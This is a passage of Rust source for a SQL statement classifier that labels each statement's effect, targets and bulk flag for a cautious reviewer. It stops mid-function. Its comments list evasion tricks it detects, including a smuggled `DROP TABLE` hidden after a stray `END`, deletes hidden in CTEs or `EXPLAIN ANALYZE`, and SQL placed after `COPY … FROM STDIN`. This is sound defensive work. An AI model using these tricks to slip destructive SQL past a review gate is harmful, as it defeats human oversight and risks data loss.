//! SQL statements → effects, targets and bulk flags (sqlparser 0.64).
//!
//! One [`Part`] per statement: the statement as written, its effect, a few words on
//! why, and the operation (`DELETE`, `DROP TABLE`, `ALTER TABLE DROP COLUMN`, ...).
//! Every table, view, schema, database, role, index, ... a statement names becomes a
//! [`Target`] (`db:table`, `db:view`, `db:role`, ...), with the schema (or MySQL
//! database) as `namespace` when the name is qualified or an earlier `USE` chose one.
//! Identifiers are folded as the database folds them: unquoted names to lower case
//! for PostgreSQL, all names for SQLite; MySQL and generic names are kept as written.
//!
//! Written for a reviewer who assumes the worst:
//!
//! * What is not understood is `unknown`, never `read`: unparseable SQL, statement
//!   kinds without a rule, procedural code (`DO`, `CALL`, `EXECUTE`, `PREPARE`),
//!   server-side files and programs (`COPY … PROGRAM`, `COPY … TO 'file'`, `LOAD`,
//!   `ATTACH`), untrusted function languages, psql variables (`:name`, pasted in as
//!   text), and calls to functions airlock does not know: `SELECT my_func()` may
//!   change anything, so only well-known side-effect-free built-ins keep a query
//!   `read`, and known side-effecting ones get their effect (`pg_terminate_backend`
//!   → delete, `nextval` → write, `dblink_exec` → unknown, ...).
//! * Changes hidden inside other statements count: `WITH d AS (DELETE …) SELECT …`
//!   deletes, `EXPLAIN ANALYZE DELETE …` deletes (it runs the statement), `SELECT …
//!   INTO t` writes, `SELECT … FOR UPDATE` writes (it locks rows), MySQL's
//!   executable comments (`/*! … */`) are SQL, and the lines after `COPY … FROM
//!   STDIN;`, data to a psql script but SQL to `psql -c` and drivers, are analysed
//!   as SQL too when they look like it.
//! * Statements are split by the classifier, not by sqlparser's statement loop,
//!   which silently stops at a stray `END` (`SELECT 1 END; DROP TABLE t` would
//!   otherwise be just `SELECT 1`).
//! * `UPDATE`/`DELETE` without `WHERE`, or with a `WHERE` that is constantly true
//!   (`WHERE true`, `WHERE 1=1`, `WHERE x = x OR …`), are `bulk`; so are `TRUNCATE`,
//!   `DROP DATABASE`, `DROP … CASCADE` and grants on every object of a schema.
//!
//! Cost is bounded: input over [`MAX_INPUT`] (1 MiB) is `unknown`; sqlparser's
//! recursion limit (50) is kept, and input nested deeper than that is refused before
//! parsing. sqlparser builds operator chains (`a OR b OR …`, `x UNION y UNION …`,
//! `int[][]…`) in loops, without that limit, and drops the resulting trees
//! recursively, so a token pre-scan refuses statements whose chains exceed
//! [`MAX_CHAIN`] tokens. Target bookkeeping is hashed, so large lists stay linear.
//!
//! Stack: at its recursion limit sqlparser needs well under 1 MiB in release builds,
//! but unoptimised builds use ~75–100 KiB per nesting level and can exhaust a 2 MiB
//! thread at ~20 levels of nesting; debug builds (tests) that parse such input need a
//! bigger stack.

use std::collections::{HashMap, HashSet, VecDeque};

use airlock_model::{Effect, Target};
use sqlparser::ast;
use sqlparser::dialect::{GenericDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect};
use sqlparser::keywords::Keyword;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Location, Token, TokenWithSpan, Tokenizer};

use crate::{Findings, Part};

/// The SQL dialect, chosen from the client: psql → PostgreSQL, mysql → MySQL,
/// sqlite3 → SQLite, otherwise generic.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    Postgres,
    MySql,
    Sqlite,
    Generic,
}

/// Input longer than this is not analysed (`unknown`).
pub const MAX_INPUT: usize = 1 << 20;

/// The longest operator chain (tokens between commas, summed over the enclosing
/// parentheses) a statement may contain. sqlparser builds such chains as left-deep
/// trees without consulting its recursion limit, and dropping or walking a tree tens
/// of thousands of levels deep overflows the stack.
pub const MAX_CHAIN: usize = 4000;

/// Parentheses/brackets nested deeper than this are refused before parsing: the
/// parser would reject them anyway (its recursion limit is 50), and refusing early
/// keeps it from recursing at all.
const MAX_PARENS: usize = 50;

/// How deep the classifier's own walk of the syntax tree may go.
const MAX_DEPTH: usize = 500;

/// How much of an over-long input is quoted back in the part's text.
const PREVIEW: usize = 200;

/// Classifies one or more SQL statements.
pub fn classify(sql: &str, dialect: Dialect) -> Findings {
    if sql.len() > MAX_INPUT {
        return Findings::unknown(
            preview(sql),
            format!(
                "SQL of {} bytes is too long to analyse (limit {MAX_INPUT})",
                sql.len()
            ),
        );
    }
    let mut findings = Findings::default();
    let mut session = Session::default();
    let mut copy_data = VecDeque::new();
    analyse(sql, dialect, &mut session, &mut findings, &mut copy_data);

    // psql reads the lines after `COPY … FROM STDIN;` as the data to copy, but
    // `psql -c` and other clients send them to the server as SQL: analyse them as SQL
    // too when they look like it.
    let mut rounds = 0;
    while let Some(data) = copy_data.pop_front() {
        if !looks_like_sql(&data) {
            continue;
        }
        rounds += 1;
        if rounds > MAX_COPY_DATA {
            findings.part(Part::new(
                preview(&data),
                Effect::Unknown,
                "too many COPY … FROM STDIN blocks to analyse",
            ));
            break;
        }
        let mut as_sql = Findings::default();
        if analyse(&data, dialect, &mut session, &mut as_sql, &mut copy_data) == Start::Data {
            continue;
        }
        for mut part in as_sql.parts {
            part.why = format!(
                "after COPY … FROM STDIN, run as SQL by clients other than psql scripts: {}",
                part.why
            );
            findings.part(part);
        }
        // Already deduplicated against everything reported, through `session`.
        findings.targets.extend(as_sql.targets);
    }

    if findings.parts.is_empty() {
        return Findings::unknown(preview(sql), "empty SQL: no statement to analyse");
    }
    findings
}

/// How many `COPY … FROM STDIN` data blocks that look like SQL are analysed as SQL.
const MAX_COPY_DATA: usize = 8;

/// Whether text analysed by [`analyse`] began with SQL (or could not be told apart),
/// or with something that does not parse, which after `COPY … FROM STDIN` is data.
#[derive(Debug, PartialEq, Eq)]
enum Start {
    Sql,
    Data,
}

/// COPY data that begins like a statement.
fn looks_like_sql(data: &str) -> bool {
    let word: String = data
        .trim_start()
        .chars()
        .take_while(|c| c.is_ascii_alphabetic())
        .collect::<String>()
        .to_ascii_uppercase();
    matches!(
        word.as_str(),
        "SELECT"
            | "INSERT"
            | "UPDATE"
            | "DELETE"
            | "MERGE"
            | "WITH"
            | "DROP"
            | "TRUNCATE"
            | "ALTER"
            | "CREATE"
            | "GRANT"
            | "REVOKE"
            | "COPY"
            | "CALL"
            | "DO"
            | "EXECUTE"
            | "PREPARE"
            | "SET"
            | "RESET"
            | "BEGIN"
            | "START"
            | "COMMIT"
            | "ROLLBACK"
            | "END"
            | "ABORT"
            | "VACUUM"
            | "ANALYZE"
            | "REINDEX"
            | "CLUSTER"
            | "LOCK"
            | "LOAD"
            | "EXPLAIN"
            | "TABLE"
            | "VALUES"
            | "SHOW"
            | "DISCARD"
            | "DEALLOCATE"
            | "DECLARE"
            | "FETCH"
            | "MOVE"
            | "CLOSE"
            | "LISTEN"
            | "NOTIFY"
            | "UNLISTEN"
            | "COMMENT"
            | "SECURITY"
            | "REASSIGN"
            | "REFRESH"
            | "IMPORT"
            | "CHECKPOINT"
            | "SAVEPOINT"
            | "RELEASE"
            | "REPLACE"
            | "KILL"
            | "FLUSH"
            | "USE"
            | "RENAME"
            | "PRAGMA"
            | "ATTACH"
            | "DETACH"
    )
}

/// Analyses `sql` statement by statement into `findings`, queueing the data of any
/// `COPY … FROM STDIN` in `copy_data`.
fn analyse(
    sql: &str,
    dialect: Dialect,
    session: &mut Session,
    findings: &mut Findings,
    copy_data: &mut VecDeque<String>,
) -> Start {
    let parser_dialect: &dyn sqlparser::dialect::Dialect = match dialect {
        Dialect::Postgres => &PostgreSqlDialect {},
        Dialect::MySql => &MySqlDialect {},
        Dialect::Sqlite => &SQLiteDialect {},
        Dialect::Generic => &GenericDialect {},
    };
    let tokens = match Tokenizer::new(parser_dialect, sql).tokenize_with_location() {
        Ok(tokens) => tokens,
        Err(e) => {
            findings.part(Part::new(
                preview(sql),
                Effect::Unknown,
                format!("SQL that cannot be read: {e}"),
            ));
            return Start::Data;
        }
    };
    if let Err(why) = check_shape(&tokens) {
        findings.part(Part::new(preview(sql), Effect::Unknown, why));
        return Start::Sql;
    }
    if dialect == Dialect::Postgres
        && let Some(name) = psql_variable(&tokens)
    {
        findings.part(Part::new(
            preview(sql),
            Effect::Unknown,
            format!("psql variable :{name} is pasted into the SQL as text before it runs"),
        ));
        return Start::Sql;
    }
    // sqlparser re-reads MySQL's executable comments (`/*! … */`) as SQL, as MySQL
    // does, but gives their tokens positions a few characters off; quote statements
    // re-rendered rather than sliced from the input then.
    let spans_reliable =
        !(matches!(dialect, Dialect::MySql | Dialect::Generic) && sql.contains("/*!"));

    let mut start_kind = Start::Sql;
    let mut first_statement = true;
    let mut locator = Locator::new(sql);
    let mut parser = Parser::new(parser_dialect).with_tokens_with_locations(tokens);
    loop {
        while parser.consume_token(&Token::SemiColon) {}
        let first = parser.peek_token();
        if first.token == Token::EOF {
            break;
        }
        let start = locator.byte(first.span.start);
        let is_first = std::mem::replace(&mut first_statement, false);

        // Statements sqlparser 0.64 cannot parse but whose effect is plain.
        if let Some((effect, op, why, bulk)) = unparsed_statement(&parser) {
            while !matches!(parser.peek_token_ref().token, Token::SemiColon | Token::EOF) {
                parser.next_token();
            }
            let end = statement_end(&parser, &mut locator, sql);
            findings.part(
                Part::new(slice(sql, start, end), effect, why)
                    .bulk(bulk)
                    .operation(op),
            );
            continue;
        }

        let lead = (word_at(&parser, 0), word_at(&parser, 1));
        let statement = match parser.parse_statement() {
            Ok(statement) => statement,
            Err(e) => {
                let rest = slice(sql, start, sql.len());
                if let Some((effect, op, why)) = last_statement_by_shape(&lead, &rest) {
                    findings.part(Part::new(rest, effect, why).operation(op));
                    break;
                }
                findings.part(Part::new(
                    slice(sql, start, sql.len()),
                    Effect::Unknown,
                    format!("SQL that cannot be parsed: {e}"),
                ));
                if is_first {
                    start_kind = Start::Data;
                }
                break;
            }
        };
        let end = statement_end(&parser, &mut locator, sql);
        let text = if spans_reliable {
            slice(sql, start, end)
        } else {
            statement.to_string()
        };
        // sqlparser's own statement loop stops silently at a stray `END`
        // (`SELECT 1 END; DROP TABLE t` parses as just `SELECT 1`); demand a `;`.
        let next = parser.peek_token();
        if !matches!(next.token, Token::SemiColon | Token::EOF) {
            let rest = slice(sql, start, sql.len());
            if let Some((effect, op, why)) = last_statement_by_shape(&lead, &rest) {
                findings.part(Part::new(rest, effect, why).operation(op));
                break;
            }
            findings.part(Part::new(
                slice(sql, start, sql.len()),
                Effect::Unknown,
                format!(
                    "SQL that cannot be parsed: unexpected {} after a statement",
                    next.token
                ),
            ));
            if is_first {
                start_kind = Start::Data;
            }
            break;
        }
        if let ast::Statement::Copy {
            payload: Some(payload),
            ..
        } = &statement
            && !payload.data.trim().is_empty()
        {
            copy_data.push_back(payload.data.clone());
        }

        let mut walker = Walker::new(dialect, session);
        walker.statement(&statement);
        findings.part(walker.verdict(text));
        // `Findings::target` searches the list; a hash set keeps thousands of
        // targets linear.
        for target in walker.targets {
            if session.seen.insert(target_key(&target)) {
                findings.targets.push(target);
            }
        }
        if let Some(ns) = walker.use_namespace {
            session.namespace = Some(ns);
        }
        // Dropped here, at a depth `check_shape` bounded.
        drop(statement);
    }
    start_kind
}

/// The first characters of `sql`, for parts that quote input not analysed.
fn preview(sql: &str) -> String {
    let trimmed = sql.trim();
    match trimmed.char_indices().nth(PREVIEW) {
        Some((i, _)) => format!("{}…", &trimmed[..i]),
        None => trimmed.to_string(),
    }
}

fn slice(sql: &str, start: usize, end: usize) -> String {
    sql.get(start..end.max(start))
        .unwrap_or_default()
        .trim()
        .to_string()
}

/// Where the statement just parsed ends in `sql`: the end of the last token the
/// parser consumed (the end of the input if that was the end-of-input marker).
fn statement_end(parser: &Parser, locator: &mut Locator, sql: &str) -> usize {
    let current = parser.get_current_token();
    if current.token == Token::EOF || current.span.end.line == 0 {
        sql.len()
    } else {
        locator.byte(current.span.end)
    }
}

/// Bounds, before anything is parsed, the trees sqlparser builds in loops rather
/// than by (limited) recursion.
///
/// Within one level of parentheses, every token between two commas can add a level
/// to a left-deep chain (`a + b + …`, `x::t::t`, `x IS NULL IS NULL`, `int[][]`); a
/// parenthesised group counts as one token of its parent level; set operators
/// (`UNION`, ...) chain across commas, so they are counted apart and not reset by
/// them. The count summed over the open levels must stay within [`MAX_CHAIN`], and
/// the nesting within [`MAX_PARENS`].
fn check_shape(tokens: &[TokenWithSpan]) -> Result<(), String> {
    #[derive(Default)]
    struct Level {
        run: usize,
        sets: usize,
    }
    let mut levels = vec![Level::default()];
    let mut total = 0usize;
    for t in tokens {
        match &t.token {
            Token::Whitespace(_) | Token::EOF => continue,
            Token::LParen | Token::LBracket | Token::LBrace => {
                if let Some(top) = levels.last_mut() {
                    top.run += 1;
                }
                total += 1;
                levels.push(Level::default());
                if levels.len() > MAX_PARENS + 1 {
                    return Err(format!(
                        "SQL nested more than {MAX_PARENS} levels deep is too deep to analyse"
                    ));
                }
            }
            Token::RParen | Token::RBracket | Token::RBrace => {
                if levels.len() > 1
                    && let Some(level) = levels.pop()
                {
                    total = total.saturating_sub(level.run + level.sets);
                }
            }
            Token::Comma | Token::SemiColon => {
                let top_level = levels.len() == 1;
                if let Some(top) = levels.last_mut() {
                    total = total.saturating_sub(top.run);
                    top.run = 0;
                    if top_level && t.token == Token::SemiColon {
                        total = total.saturating_sub(top.sets);
                        top.sets = 0;
                    }
                }
            }
            Token::Word(w)
                if matches!(
                    w.keyword,
                    Keyword::UNION | Keyword::EXCEPT | Keyword::INTERSECT | Keyword::MINUS
                ) =>
            {
                if let Some(top) = levels.last_mut() {
                    top.sets += 1;
                }
                total += 1;
            }
            _ => {
                if let Some(top) = levels.last_mut() {
                    top.run += 1;
                }
                total += 1;
            }
        }
        if total > MAX_CHAIN {
            return Err(format!(
                "SQL with an expression chain over {MAX_CHAIN} tokens is too long to analyse"
            ));
        }
    }
    Ok(())
}

/// A psql variable reference (`:name`, `:'name'`, `:"name"`): psql substitutes its
/// value as raw text, which could be anything.
fn psql_variable(tokens: &[TokenWithSpan]) -> Option<String> {
    tokens.windows(2).find_map(|pair| {
        let [colon, next] = pair else {
            return None;
        };
        if colon.token != Token::Colon || colon.span.end != next.span.start {
            return None;
        }
        match &next.token {
            Token::Word(w) => Some(w.value.clone()),
            Token::SingleQuotedString(s) => Some(s.clone()),
            _ => None,
        }
    })
}

/// Maps sqlparser's line/column locations (columns count characters) to byte
/// offsets. Statements come in order, so a forward-moving cursor keeps this linear.
struct Locator<'a> {
    text: &'a str,
    line: u64,
    column: u64,
    byte: usize,
}

impl<'a> Locator<'a> {
    fn new(text: &'a str) -> Locator<'a> {
        Locator {
            text,
            line: 1,
            column: 1,
            byte: 0,
        }
    }

    fn byte(&mut self, loc: Location) -> usize {
        if loc.line == 0 {
            return self.byte;
        }
        if (loc.line, loc.column) < (self.line, self.column) {
            self.line = 1;
            self.column = 1;
            self.byte = 0;
        }
        while (self.line, self.column) < (loc.line, loc.column) {
            let Some(c) = self.text.get(self.byte..).and_then(|s| s.chars().next()) else {
                break;
            };
            self.byte += c.len_utf8();
            if c == '\n' {
                self.line += 1;
                self.column = 1;
            } else {
                self.column += 1;
            }
        }
        self.byte
    }
}

/// The `n`th next token as an upper-case unquoted word ("" for anything else).
fn word_at(parser: &Parser, n: usize) -> String {
    match &parser.peek_nth_token_ref(n).token {
        Token::Word(w) if w.quote_style.is_none() => w.value.to_ascii_uppercase(),
        _ => String::new(),
    }
}

/// Statements sqlparser 0.64 does not parse, recognised by their first words.
fn unparsed_statement(parser: &Parser) -> Option<(Effect, &'static str, &'static str, bool)> {
    Some(
        match (word_at(parser, 0).as_str(), word_at(parser, 1).as_str()) {
            ("REINDEX", _) => (Effect::Write, "REINDEX", "REINDEX rebuilds indexes", false),
            ("CLUSTER", _) => (
                Effect::Write,
                "CLUSTER",
                "CLUSTER rewrites tables in index order",
                false,
            ),
            ("CHECKPOINT", _) => (
                Effect::Write,
                "CHECKPOINT",
                "CHECKPOINT forces a write-ahead-log checkpoint",
                false,
            ),
            ("VACUUM", _) => (
                Effect::Write,
                "VACUUM",
                "VACUUM rewrites tables to reclaim space; no row changes",
                false,
            ),
            ("DO", _) => (
                Effect::Unknown,
                "DO",
                "DO runs an anonymous code block, which may do anything",
                false,
            ),
            ("DROP", "OWNED") => (
                Effect::Delete,
                "DROP OWNED",
                "DROP OWNED drops every object a role owns",
                true,
            ),
            ("REASSIGN", "OWNED") => (
                Effect::Permissions,
                "REASSIGN OWNED",
                "REASSIGN OWNED gives every object a role owns to another role",
                true,
            ),
            _ => return None,
        },
    )
}

/// A final statement sqlparser cannot parse whose meaning its shape makes plain:
/// MySQL account statements (`CREATE USER 'u'@'h'`, `SET PASSWORD FOR …`) and
/// SQLite's read-only `PRAGMA name(arg)`. Only a lone last statement qualifies (no
/// `;` after it but a trailing one), so nothing unparsed can hide behind it.
fn last_statement_by_shape(
    lead: &(String, String),
    text: &str,
) -> Option<(Effect, &'static str, &'static str)> {
    let body = text.trim().trim_end_matches(';');
    if body.contains(';') {
        return None;
    }
    match (lead.0.as_str(), lead.1.as_str()) {
        ("CREATE" | "DROP" | "ALTER" | "RENAME", "USER") | ("SET", "PASSWORD") => Some((
            Effect::Permissions,
            "ACCOUNT",
            "creates, changes or drops a database account",
        )),
        ("PRAGMA", name) => {
            const READ_ONLY: [&str; 10] = [
                "TABLE_INFO",
                "TABLE_XINFO",
                "INDEX_LIST",
                "INDEX_INFO",
                "INDEX_XINFO",
                "FOREIGN_KEY_LIST",
                "DATABASE_LIST",
                "COMPILE_OPTIONS",
                "INTEGRITY_CHECK",
                "QUICK_CHECK",
            ];
            // `PRAGMA name(argument)` and nothing else.
            let trimmed = body.trim_start();
            if !trimmed.get(..6)?.eq_ignore_ascii_case("PRAGMA") {
                return None;
            }
            let rest = trimmed.get(6..)?.trim_start();
            let arg = rest.get(name.len()..)?.trim();
            let plain = arg.is_empty()
                || (arg.starts_with('(')
                    && arg.ends_with(')')
                    && arg[1..arg.len() - 1]
                        .chars()
                        .all(|c| c.is_alphanumeric() || "_.\"' ".contains(c)));
            (READ_ONLY.contains(&name) && plain).then_some((
                Effect::Read,
                "PRAGMA",
                "a read-only PRAGMA that reports on the schema",
            ))
        }
        _ => None,
    }
}

/// What earlier statements of the same input set up for later ones.
#[derive(Default)]
struct Session {
    /// The database/schema chosen by `USE`: the namespace of unqualified tables.
    namespace: Option<String>,
    /// The targets already reported.
    seen: HashSet<TargetKey>,
}

/// What makes a target distinct: kind, name, namespace.
type TargetKey = (String, String, Option<String>);

fn target_key(t: &Target) -> TargetKey {
    (t.kind.clone(), t.name.clone(), t.namespace.clone())
}

/// One thing a statement does.
struct Fact {
    effect: Effect,
    operation: String,
    why: String,
    bulk: bool,
}

/// Walks one statement's syntax tree, collecting facts and targets.
struct Walker {
    dialect: Dialect,
    namespace: Option<String>,
    facts: Vec<Fact>,
    targets: Vec<Target>,
    /// Targets already recorded (`targets` can hold thousands).
    seen: HashSet<TargetKey>,
    /// Names (lower-cased) of the common table expressions in scope, innermost
    /// last, and how many of each: they are not real tables.
    ctes: Vec<String>,
    cte_names: HashMap<String, usize>,
    depth: usize,
    too_deep: bool,
    /// Set by `USE`, for the statements that follow.
    use_namespace: Option<String>,
}

/// A name split into schema (or database) and object, folded as the database folds it.
struct Name {
    namespace: Option<String>,
    name: String,
}

impl Name {
    fn display(&self) -> String {
        match &self.namespace {
            Some(ns) => format!("{ns}.{}", self.name),
            None => self.name.clone(),
        }
    }
}

impl Walker {
    fn new(dialect: Dialect, session: &Session) -> Walker {
        Walker {
            dialect,
            namespace: session.namespace.clone(),
            facts: Vec::new(),
            targets: Vec::new(),
            seen: HashSet::new(),
            ctes: Vec::new(),
            cte_names: HashMap::new(),
            depth: 0,
            too_deep: false,
            use_namespace: None,
        }
    }

    /// A walker for a statement inside this one (plain `EXPLAIN`), whose facts are
    /// not this statement's.
    fn nested(&self) -> Walker {
        Walker {
            dialect: self.dialect,
            namespace: self.namespace.clone(),
            facts: Vec::new(),
            targets: Vec::new(),
            seen: HashSet::new(),
            ctes: self.ctes.clone(),
            cte_names: self.cte_names.clone(),
            depth: self.depth,
            too_deep: false,
            use_namespace: None,
        }
    }

    /// The statement's part: the first `unknown` fact if any, else the strongest.
    fn verdict(&self, text: String) -> Part {
        let bulk = self.facts.iter().any(|f| f.bulk);
        // `Effect`'s order puts `Unknown` last, so the maximum is the first unknown
        // fact if there is one, else the strongest (the first of equals).
        let strongest = self.facts.iter().map(|f| f.effect).max();
        let chosen = strongest.and_then(|e| self.facts.iter().find(|f| f.effect == e));
        match chosen {
            Some(f) => Part::new(text, f.effect, f.why.clone())
                .bulk(bulk)
                .operation(f.operation.clone()),
            None => Part::new(
                text,
                Effect::Unknown,
                "a statement airlock could not analyse",
            ),
        }
    }

    // ----- facts and targets -------------------------------------------------------

    fn fact(&mut self, effect: Effect, operation: impl Into<String>, why: impl Into<String>) {
        self.facts.push(Fact {
            effect,
            operation: operation.into(),
            why: why.into(),
            bulk: false,
        });
    }

    fn bulk_fact(&mut self, effect: Effect, operation: impl Into<String>, why: impl Into<String>) {
        self.facts.push(Fact {
            effect,
            operation: operation.into(),
            why: why.into(),
            bulk: true,
        });
    }

    fn unknown(&mut self, operation: impl Into<String>, why: impl Into<String>) {
        self.fact(Effect::Unknown, operation, why);
    }

    fn ident(&self, ident: &ast::Ident) -> String {
        match self.dialect {
            Dialect::Postgres if ident.quote_style.is_none() => ident.value.to_lowercase(),
            Dialect::Sqlite => ident.value.to_lowercase(),
            _ => ident.value.clone(),
        }
    }

    /// Splits an object name; `None` (and an `unknown` fact) for names computed at
    /// run time (`IDENTIFIER(…)`).
    fn name(&mut self, object: &ast::ObjectName) -> Option<Name> {
        let mut parts = Vec::with_capacity(object.0.len());
        for part in &object.0 {
            match part {
                ast::ObjectNamePart::Identifier(ident) => parts.push(self.ident(ident)),
                ast::ObjectNamePart::Function(_) => {
                    self.unknown("SQL", "an object name computed at run time");
                    return None;
                }
            }
        }
        let name = parts.pop()?;
        Some(Name {
            namespace: parts.pop(),
            name,
        })
    }

    fn push_target(&mut self, kind: &str, name: Name) {
        let namespace = match (&name.namespace, kind) {
            (None, "db:table" | "db:view") => self.namespace.clone(),
            _ => name.namespace,
        };
        let key = (kind.to_string(), name.name, namespace);
        if self.seen.insert(key.clone()) {
            let (kind, name, namespace) = key;
            self.targets.push(Target {
                kind,
                name,
                namespace,
                ..Target::default()
            });
        }
    }

    /// Records a target and returns its display name for `why` texts.
    fn target(&mut self, kind: &str, object: &ast::ObjectName) -> String {
        match self.name(object) {
            Some(name) => {
                let shown = name.display();
                self.push_target(kind, name);
                shown
            }
            None => object.to_string(),
        }
    }

    fn ident_target(&mut self, kind: &str, ident: &ast::Ident) -> String {
        let name = self.ident(ident);
        self.push_target(
            kind,
            Name {
                namespace: None,
                name: name.clone(),
            },
        );
        name
    }

    fn role(&mut self, ident: &ast::Ident) -> String {
        self.ident_target("db:role", ident)
    }

    fn owner(&mut self, owner: &ast::Owner) -> String {
        match owner {
            ast::Owner::Ident(ident) => self.role(ident),
            other => other.to_string(),
        }
    }

    fn grantee(&mut self, grantee: &ast::Grantee) -> String {
        match &grantee.name {
            Some(ast::GranteeName::ObjectName(name)) => self.target("db:role", name),
            Some(ast::GranteeName::UserHost { user, host }) => {
                let name = format!("{}@{}", user.value, host.value);
                self.push_target(
                    "db:role",
                    Name {
                        namespace: None,
                        name: name.clone(),
                    },
                );
                name
            }
            None => grantee.to_string(),
        }
    }

    /// A table read by a query: CTE names and MySQL's `DUAL` are not tables.
    fn read_table(&mut self, object: &ast::ObjectName) {
        if let [ast::ObjectNamePart::Identifier(ident)] = object.0.as_slice() {
            let name = self.ident(ident);
            if self.cte_names.contains_key(&name.to_ascii_lowercase())
                || (self.dialect != Dialect::Postgres && name.eq_ignore_ascii_case("dual"))
            {
                return;
            }
        }
        self.target("db:table", object);
    }

    /// A list of names for `why` texts, shortened when long.
    fn shown(targets: &[String]) -> String {
        const SHOWN: usize = 10;
        match targets {
            [] => "no table".to_string(),
            [one] => one.clone(),
            few if few.len() <= SHOWN => few.join(", "),
            many => format!(
                "{} and {} more",
                many[..SHOWN].join(", "),
                many.len() - SHOWN
            ),
        }
    }

    fn push_cte(&mut self, name: String) {
        let name = name.to_ascii_lowercase();
        *self.cte_names.entry(name.clone()).or_default() += 1;
        self.ctes.push(name);
    }

    fn pop_ctes(&mut self, scope: usize) {
        while self.ctes.len() > scope {
            let Some(name) = self.ctes.pop() else { break };
            if let Some(count) = self.cte_names.get_mut(&name) {
                *count -= 1;
                if *count == 0 {
                    self.cte_names.remove(&name);
                }
            }
        }
    }

    /// Display names of the table targets recorded since `start`.
    fn tables_since(&self, start: usize) -> String {
        let names: Vec<String> = self.targets[start.min(self.targets.len())..]
            .iter()
            .filter(|t| t.kind == "db:table" || t.kind == "db:view")
            .map(|t| match &t.namespace {
                Some(ns) => format!("{ns}.{}", t.name),
                None => t.name.clone(),
            })
            .collect();
        Self::shown(&names)
    }

    // ----- depth -----------------------------------------------------------------

    fn descend(&mut self) -> bool {
        if self.depth >= MAX_DEPTH {
            if !self.too_deep {
                self.too_deep = true;
                self.unknown("SQL", "SQL nested too deeply to analyse");
            }
            return false;
        }
        self.depth += 1;
        true
    }

    fn ascend(&mut self) {
        self.depth = self.depth.saturating_sub(1);
    }

    // ----- statements --------------------------------------------------------------

    fn statement(&mut self, statement: &ast::Statement) {
        if !self.descend() {
            return;
        }
        self.statement_inner(statement);
        self.ascend();
    }

    fn statements(&mut self, statements: &[ast::Statement]) {
        for s in statements {
            self.statement(s);
        }
    }

    fn statement_inner(&mut self, statement: &ast::Statement) {
        use Effect::{Delete, Permissions, Read, Write};
        use ast::Statement as S;
        match statement {
            S::Query(query) => {
                let start = self.targets.len();
                self.query(query);
                let tables = self.tables_since(start);
                self.fact(Read, "SELECT", format!("a query reads {tables}"));
            }
            S::Insert(insert) => self.insert(insert),
            S::Update(update) => self.update(update),
            S::Delete(delete) => self.delete(delete),
            S::Merge(merge) => self.merge(merge),
            S::Truncate(truncate) => {
                let names: Vec<String> = truncate
                    .table_names
                    .iter()
                    .map(|t| self.target("db:table", &t.name))
                    .collect();
                if let Some(partitions) = &truncate.partitions {
                    self.exprs(partitions);
                }
                self.bulk_fact(
                    Delete,
                    "TRUNCATE",
                    format!("TRUNCATE removes every row of {}", Self::shown(&names)),
                );
            }
            S::Drop {
                object_type,
                names,
                cascade,
                table,
                ..
            } => self.drop_objects(*object_type, names, *cascade, table.as_ref()),
            S::DropFunction(d) => {
                let names: Vec<String> = d
                    .func_desc
                    .iter()
                    .map(|f| self.target("db:function", &f.name))
                    .collect();
                self.drop_fact("FUNCTION", &names, is_cascade(d.drop_behavior.as_ref()));
            }
            S::DropProcedure {
                proc_desc,
                drop_behavior,
                ..
            } => {
                let names: Vec<String> = proc_desc
                    .iter()
                    .map(|f| self.target("db:procedure", &f.name))
                    .collect();
                self.drop_fact("PROCEDURE", &names, is_cascade(drop_behavior.as_ref()));
            }
            S::DropTrigger(d) => {
                let name = self.target("db:trigger", &d.trigger_name);
                if let Some(table) = &d.table_name {
                    self.target("db:table", table);
                }
                self.drop_fact("TRIGGER", &[name], false);
            }
            S::DropPolicy(d) => {
                let table = self.target("db:table", &d.table_name);
                self.fact(
                    Permissions,
                    "DROP POLICY",
                    format!(
                        "DROP POLICY removes row-level policy {} from {table}, changing who sees which rows",
                        d.name.value
                    ),
                );
            }
            S::DropRule(d) => {
                let table = self.target("db:table", &d.table_name);
                self.fact(
                    Delete,
                    "DROP RULE",
                    format!("DROP RULE removes rule {} from {table}", d.name.value),
                );
            }
            S::DropExtension(d) => {
                let names: Vec<String> = d
                    .names
                    .iter()
                    .map(|n| self.ident_target("db:extension", n))
                    .collect();
                let cascade =
                    matches!(d.cascade_or_restrict, Some(ast::ReferentialAction::Cascade));
                self.drop_fact("EXTENSION", &names, cascade);
            }
            S::DropDomain(d) => {
                let name = self.target("db:type", &d.name);
                self.drop_fact("DOMAIN", &[name], is_cascade(d.drop_behavior.as_ref()));
            }
            S::DropSecret { name, .. } => {
                let name = self.ident_target("db:secret", name);
                self.fact(
                    Permissions,
                    "DROP SECRET",
                    format!("DROP SECRET removes credentials {name}"),
                );
            }
            S::DropConnector { name, .. } => {
                let name = self.ident_target("db:connector", name);
                self.drop_fact("CONNECTOR", &[name], false);
            }
            S::DropOperator(_) | S::DropOperatorFamily(_) | S::DropOperatorClass(_) => {
                self.fact(Delete, "DROP OPERATOR", "DROP OPERATOR removes operators");
            }
            S::AlterTable(alter) => self.alter_table(alter),
            S::AlterIndex { name, .. } => {
                let name = self.target("db:index", name);
                self.fact(Write, "ALTER INDEX", format!("ALTER INDEX renames {name}"));
            }
            S::AlterView(alter) => {
                let name = self.target("db:view", &alter.name);
                match &alter.operation {
                    ast::AlterViewOperation::OwnerTo(owner) => {
                        let owner = self.owner(owner);
                        self.fact(
                            Permissions,
                            "ALTER VIEW OWNER TO",
                            format!("ALTER VIEW … OWNER TO gives {name} to {owner}"),
                        );
                    }
                    ast::AlterViewOperation::As { query, .. } => {
                        self.query(query);
                        self.fact(Write, "ALTER VIEW", format!("ALTER VIEW redefines {name}"));
                    }
                    _ => self.fact(Write, "ALTER VIEW", format!("ALTER VIEW changes {name}")),
                }
            }
            S::AlterSchema(alter) => {
                let name = self.target("db:schema", &alter.name);
                for op in &alter.operations {
                    match op {
                        ast::AlterSchemaOperation::OwnerTo { owner } => {
                            let owner = self.owner(owner);
                            self.fact(
                                Permissions,
                                "ALTER SCHEMA OWNER TO",
                                format!("ALTER SCHEMA … OWNER TO gives {name} to {owner}"),
                            );
                        }
                        ast::AlterSchemaOperation::DropReplica { .. } => self.fact(
                            Delete,
                            "ALTER SCHEMA DROP REPLICA",
                            format!("ALTER SCHEMA … DROP REPLICA removes a replica of {name}"),
                        ),
                        _ => self.fact(
                            Write,
                            "ALTER SCHEMA",
